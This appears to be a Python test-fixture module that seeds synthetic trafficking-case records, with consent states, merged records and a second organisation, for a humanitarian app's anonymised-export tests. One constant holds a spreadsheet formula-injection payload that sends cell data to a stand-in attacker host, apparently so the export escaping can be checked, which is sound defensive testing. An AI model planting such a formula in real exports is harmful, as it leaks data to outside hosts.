"""The records the export tests read: organisation A's cases at three districts, people who gave, declined,
withdrew or never recorded consent to anonymised use, a person with two cases, a merged record, and organisation
B's case. Written straight to the tables (the exports only read them; the services are tested in their parts),
so that a few dozen people cost milliseconds."""

from __future__ import annotations

import datetime

from hifazat.cases.models import Case
from hifazat.core import crypto
from hifazat.core.roles import Role
from hifazat.core.testing import HifazatTestCase
from hifazat.geography.models import AdminArea, Site
from hifazat.people.models import Consent, ConsentPurpose, Household, Person

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PURPOSE = ConsentPurpose.ANONYMISED_DATA


class ExportTestCase(HifazatTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        country = AdminArea.objects.create(pcode="PK", name="Pakistan", level=0)
        ict = AdminArea.objects.create(
            pcode="PK7", name="Islamabad Capital Territory", level=1, parent=country
        )
        nwfp = AdminArea.objects.create(
            pcode="PK6", name="North West Frontier Province", level=1, parent=country
        )
        cls.islamabad = AdminArea.objects.create(pcode="PK701", name="Islamabad", level=2, parent=ict)
        cls.mansehra = AdminArea.objects.create(pcode="PK604", name="Mansehra", level=2, parent=nwfp)
        cls.balakot = AdminArea.objects.create(
            pcode="PK60401", name="Balakot Tehsil", level=3, parent=cls.mansehra
        )
        cls.battagram = AdminArea.objects.create(pcode="PK603", name="Battagram", level=2, parent=nwfp)
        cls.h11 = Site.objects.create(
            code="ISB-H11", name="H-11 Relief Camp", site_type="relief_camp", area=cls.islamabad
        )
        cls.blk = Site.objects.create(
            code="MAN-BLK", name="Balakot Camp", site_type="relief_camp", area=cls.balakot
        )
        cls.btg = Site.objects.create(
            code="BTG-01", name="Battagram Camp", site_type="relief_camp", area=cls.battagram
        )
        cls.caseworker = cls.a[Role.CASEWORKER]
        cls.number = 0
        cls.people: dict[str, list[Person]] = {}
        # Twelve widows of about 30 at H-11, cases opened in 2006: one of them has an older, closed case too.
        cls.people["h11"] = [
            cls.person(
                f"Nasreen{n}", cls.h11, birthdate=datetime.date(1976, 1 + n % 12, 3), marital="Widowed"
            )
            for n in range(12)
        ]
        for person in cls.people["h11"]:
            cls.case(
                person, datetime.date(2006, 3, 14), exploitation=["ForcedMarriage"], control=["FalsePromises"]
            )
        cls.case(cls.people["h11"][0], datetime.date(2005, 11, 2), status="Closed")
        # Eleven married women of about 20 at the Balakot camp (a tehsil of Mansehra), cases of 2006.
        cls.people["balakot"] = [
            cls.person(f"Zainab{n}", cls.blk, birthdate=datetime.date(1986, 2, 1 + n), marital="Married")
            for n in range(11)
        ]
        for person in cls.people["balakot"]:
            cls.case(
                person,
                datetime.date(2006, 5, 20),
                exploitation=["ForcedLabour"],
                industry="T_ActivitiesOfHouseholdsAsEmployers",
            )
        # One older man at Battagram: a combination no one else shares.
        cls.people["alone"] = [
            cls.person(
                "Gul Khan",
                cls.btg,
                birthdate=datetime.date(1935, 6, 6),
                marital="Widowed",
                gender="Masculine",
            )
        ]
        cls.case(cls.people["alone"][0], datetime.date(2006, 8, 1))
        for person in (*cls.people["h11"], *cls.people["balakot"], *cls.people["alone"]):
            cls.consent(person, "given")
        # Ten divorced women at Battagram who declined: together they would make a group of ten.
        cls.people["declined"] = [
            cls.person(f"Rukhsana{n}", cls.btg, birthdate=datetime.date(1966, 4, 4), marital="Divorced")
            for n in range(10)
        ]
        for person in cls.people["declined"]:
            cls.case(person, datetime.date(2006, 9, 9))
            cls.consent(person, "declined")
        # One who gave consent and then withdrew it; one who was never asked.
        cls.withdrawn = cls.person("Fatima", cls.h11, birthdate=datetime.date(1976, 5, 5), marital="Widowed")
        cls.case(cls.withdrawn, datetime.date(2006, 3, 14))
        cls.consent(cls.withdrawn, "given", day=1)
        cls.consent(cls.withdrawn, "withdrawn", day=2)
        cls.never_asked = cls.person(
            "Ayesha", cls.h11, birthdate=datetime.date(1976, 5, 5), marital="Widowed"
        )
        cls.case(cls.never_asked, datetime.date(2006, 3, 14))
        # A record merged into another: its case is not a person of its own.
        cls.merged = cls.person("Nasrin", cls.h11, birthdate=datetime.date(1976, 1, 3), marital="Widowed")
        Person.objects.filter(pk=cls.merged.pk).update(merged_into=cls.people["h11"][0])
        cls.case(cls.merged, datetime.date(2006, 3, 14))
        cls.consent(cls.merged, "given")
        # Organisation B's case never leaves in A's export.
        cls.other = cls.person(
            "Saima", cls.h11, birthdate=datetime.date(1976, 1, 3), marital="Widowed", org=cls.org_b
        )
        cls.case(cls.other, datetime.date(2006, 3, 14))
        cls.consent(cls.other, "given")

    @classmethod
    def person(cls, name, site, *, birthdate, marital, gender="Feminine", org=None) -> Person:
        org = org or cls.org_a
        household = Household.objects.create(organisation=org, site=site, shelter_number=f"T-{name}")
        return Person.objects.create(
            organisation=org,
            household=household,
            first_name=name,
            second_name="Bibi",
            first_name_ur="نسرین",
            parentage_name="Muhammad Akram",
            birthdate=birthdate,
            birth_year=birthdate.year,
            gender=gender,
            marital_status=marital,
            citizenship="PK",
            phone_encrypted=crypto.encrypt("+923001234567"),
            identity_number_encrypted=crypto.encrypt("61101-1234567-1"),
            registered_on=datetime.date(2006, 1, 10),
        )

    @classmethod
    def case(cls, person, opened_on, *, status="Active", exploitation=(), control=(), industry="") -> Case:
        cls.number += 1
        return Case.objects.create(
            organisation=person.organisation,
            number=f"CT-2006-{cls.number:06d}",
            person=person,
            owner=cls.caseworker,
            origin="walk_in",
            summary="Met a recruiter who promised work in Lahore",
            opened_on=opened_on,
            status=status,
            closed_on=opened_on if status == "Closed" else None,
            trafficking_status="PossibleVictimOfTrafficking",
            trafficking_status_by=cls.caseworker,
            trafficking_status_decided_by="NGO",
            exploitation_types=list(exploitation),
            methods_of_control=list(control),
            forced_labour_industry=industry,
            relationship_to_trafficker="Acquainted",
            recruitment_methods=["ThroughFamilyOrFamilyEvents"],
        )

    @classmethod
    def consent(cls, person, status, *, day=1) -> Consent:
        return Consent.objects.create(
            person=person,
            purpose=PURPOSE,
            status=status,
            decided_at=datetime.datetime(2006, 2, day, 10, tzinfo=datetime.UTC),
        )
